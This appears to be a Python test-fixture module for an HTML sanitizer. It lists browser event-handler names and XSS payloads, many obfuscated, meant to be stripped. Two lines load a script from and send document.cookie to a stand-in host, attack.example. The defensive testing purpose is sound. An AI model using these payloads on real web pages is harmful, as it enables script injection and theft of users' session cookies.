"""Event handlers: every one that any browser knows or knew, on the elements that an author may write, and tricks."""

from itertools import cycle

from .table import kind

# What today's Chromium calls on any element when the event comes.
CALLED = """
    onabort onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
    onbeforecut onbeforeinput onbeforepaste onbeforetoggle onblur oncancel oncanplay oncanplaythrough onchange
    onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored
    oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop
    ondurationchange onemptied onended onerror onfocus onfocusin onfocusout onformdata ongotpointercapture oninput
    oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlostpointercapture
    onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpaste onpause
    onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout
    onpointerover onpointerrawupdate onpointerup onprogress onratechange onreset onresize onscroll onscrollend
    onscrollsnapchange onscrollsnapchanging onsecuritypolicyviolation onseeked onseeking onselect onselectionchange
    onselectstart onslotchange onstalled onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend
    ontouchmove ontouchstart onvolumechange onwaiting onwebkitfullscreenchange onwebkitfullscreenerror onwheel
"""
# What it calls on the window alone, and what only other browsers call or called.
NOT_CALLED = """
    onactivate onafterprint onafterscriptexecute onafterupdate onappinstalled onariarequest onautocomplete
    onautocompleteerror onbeforeactivate onbeforedeactivate onbeforeeditfocus onbeforeinstallprompt onbeforeload
    onbeforematch onbeforeprint onbeforescriptexecute onbeforeunload onbeforeupdate onbeforexrselect onbegin
    onbounce oncellchange oncompositionend oncompositionstart oncompositionupdate oncontrolselect ondataavailable
    ondatasetchanged ondatasetcomplete ondeactivate ondevicelight ondevicemotion ondeviceorientation
    ondeviceorientationabsolute ondeviceproximity onDOMActivate onDOMAttrModified onDOMContentLoaded
    onDOMNodeInserted onencrypted onend onenterpictureinpicture onerrorupdate onfilterchange onfinish onformchange
    onforminput onfullscreenchange onfullscreenerror ongamepadconnected ongesturechange ongestureend ongesturestart
    onhashchange onhelp onlanguagechange onlayoutcomplete onleavepictureinpicture onlosecapture onmediacomplete
    onmediaerror onmessage onmessageerror onmove onmoveend onmovestart onmozfullscreenchange onmspointerdown
    onoffline ononline onoutofsync onpagehide onpagereveal onpageshow onpageswap onpopstate onpropertychange
    onreadystatechange onredo onrejectionhandled onrepeat onresizeend onresizestart onresume onreverse onrowdelete
    onrowenter onrowexit onrowinserted onrowsdelete onrowsenter onrowsinserted onsearch onseeksegmenttime onshow
    onstart onstop onstorage onsyncrestored onTimeError ontimeout ontrackchange ontransitioncancel ontransitionend
    ontransitionrun ontransitionstart onundo onunhandledrejection onunload onurlflip onuserproximity
    onwaitingforkey onwebkitanimationend onwebkitanimationiteration onwebkitanimationstart onwebkitneedkey
    onwebkittransitionend onwebkitwillrevealbottom onzoom
"""
CARRIERS = """
<p {0}>x</p>
<h2 id=h-x {0}>x</h2>
<a href=/ {0}>x</a>
<div class=callout-note {0}><p>x</p></div>
<details {0}><summary>x</summary>x</details>
<details><summary {0}>x</summary>x</details>
<img alt=x src=/media/pictures/0000000000000000000000000000000000000000000000000000000000000000.png {0}>
<figure class=picture {0}>x</figure>
<abbr title=x {0}>x</abbr>
<ol start=3 {0}><li>x</ol>
<table {0}><tr><td>x</table>
<table><tr><th scope=col {0}>x</table>
<dl {0}><dt>x<dd>x</dl>
<blockquote {0}>x</blockquote>
<br {0}>
"""


def _on_our_elements(names: str, together: int) -> list[str]:
    """So many on one element, and on each the next of our elements."""
    carriers, handlers = cycle(CARRIERS.strip().split("\n")), [f"{name}=hit=1" for name in names.split()]
    groups = [handlers[start : start + together] for start in range(0, len(handlers), together)]
    return [next(carriers).format(" ".join(group)) for group in groups]


HANDLERS = set(f"{CALLED} {NOT_CALLED}".lower().split())
EVERY_HANDLER = kind(
    "event handlers", _on_our_elements(CALLED, together=3), silent=_on_our_elements(NOT_CALLED, together=8)
)

HANDLER_TRICKS = kind(
    "event handlers that call themselves, and odd ways to write them",
    r"""
<img src=x onerror=hit=1>
<IMG SRC=x OnErRoR=alert(1)>
<img/src='x'/onerror=hit=1>
<p/onclick="hit=1"/>x</p>
<img src=x onerror="hit=1"//
<img src=x onerror=&#104;&#105;&#116;&#61;1>
<img src=x onerror=&#x68;&#x69;&#x74;&#x3d;1>
<img src=x onerror=window['\x68it']=1>
<img src=x onerror=\u0068it=1>
<img src=x onerror=top[/hi/.source+'t']=1>
<img src=x onerror=Function`hit=1```>
<img src=x onerror=eval(atob('aGl0PTE='))>
<img src=x onerror=import('https://attack.example/s.js')>
<img src=x onerror="fetch('https://attack.example/?'+document.cookie)">
<img src=x onerror="location='javascript:hit=1'">
<img srcset=x onerror=hit=1>
<img src=/static/icon.svg onload=hit=1>
<image src=x onerror=hit=1>
<video><source onerror=hit=1></video>
<video src=x onloadstart=hit=1></video>
<input type=image src=x onerror=hit=1>
<input autofocus onfocus=hit=1>
<select autofocus onfocus=hit=1></select>
<p tabindex=0 autofocus onfocus=hit=1>x</p>
<p contenteditable autofocus onfocus=hit=1>x</p>
<details open ontoggle=hit=1><summary>x</summary></details>
<details ontoggle=hit=1><summary>x</summary></details>
<body onload=hit=1>
<body onpageshow=hit=1>
<body onhashchange=hit=1><a href=#h-x>x</a>
<html onclick=hit=1>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=hit=1>x</p>
<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart=hit=1>x</p>
<svg onload=hit=1>
<svg><animate onbegin=hit=1 attributeName=x dur=1s>
<svg><animateTransform onbegin=hit=1>
<svg><image href=x onerror=hit=1></svg>
<button popovertarget=h-p>x</button><p popover id=h-p onbeforetoggle=hit=1>x</p>
<label onclick=hit=1 for=h-i>x<input id=h-i></label>
<xss onmouseover=hit=1>x</xss>
<x-any onclick=hit=1>x</x-any>
<p onclick=hit=1;//>x</p>
<p onclick\n=hit=1>x</p>
<p\nonclick=hit=1>x</p>
<p title="x"onclick="hit=1">x</p>
<p title=x" onclick=hit=1>x</p>
<p title='x' " onclick=hit=1>x</p>
<p title=`x onclick=hit=1>x</p>
<p =x onclick=hit=1>x</p>
<a href="javascript&colon;0" onclick=hit=1>x</a>
<b onclick=hit=1>x</b>
<i onmouseover=hit=1>x</i>
<h1 onclick=hit=1>x</h1>
<font color=red onclick=hit=1>x</font>
<dialog open onclick=hit=1>x</dialog>
<p title="x\" onclick=hit=1 x="">x</p>
<img dynsrc=x onerror=hit=1>
<keygen autofocus onfocus=hit=1>
""",
    silent=r"""
<p on click=hit=1>x</p>
<p onclick&#61;hit=1>x</p>
<p on&#99;lick=hit=1>x</p>
<p &#111;nclick=hit=1>x</p>
<p xlink:onclick=hit=1>x</p>
<img src=`x`onerror=hit=1>
<img lowsrc=javascript:hit=1>
""",
)
